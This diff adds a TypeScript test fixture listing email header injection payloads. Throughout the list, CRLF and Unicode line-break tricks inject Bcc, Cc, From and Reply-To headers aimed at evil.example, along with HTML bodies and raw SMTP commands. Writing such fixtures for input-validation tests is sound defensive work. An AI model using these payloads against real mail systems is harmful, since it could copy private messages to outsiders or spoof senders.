@@ -1,0 +1,23 @@
+/** Texts of a family or an administrator that try to add headers, recipients or parts to a message. */
+export const MAIL_PAYLOADS = [
+  '\r\nBcc: x@evil.example',
+  '\nBcc: x@evil.example',
+  '\rBcc: x@evil.example',
+  '\r\n\r\n<script>alert(1)</script>',
+  '%0d%0aBcc:x@evil.example',
+  '\u0000\r\nTo: x@evil.example',
+  '\u2028Cc: x@evil.example',
+  '\u0085Cc: x@evil.example',
+  ', x@evil.example',
+  '; x@evil.example',
+  '>, <x@evil.example>',
+  '" <x@evil.example>',
+  '=?utf-8?q?=0d=0aBcc:=20x@evil.example?=',
+  '\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<x@evil.example>\r\nDATA\r\n',
+  '\r\nContent-Type: text/html\r\n\r\n<b>hi</b>',
+  '\r\nReply-To: x@evil.example',
+  '\r\nX-Priority: 1\r\nFrom: x@evil.example',
+  '\t\r\n Bcc: x@evil.example',
+  '\u560d\u560aBcc: x@evil.example',
+  '(x@evil.example) <x@evil.example>\r\nSender: x@evil.example',
+]
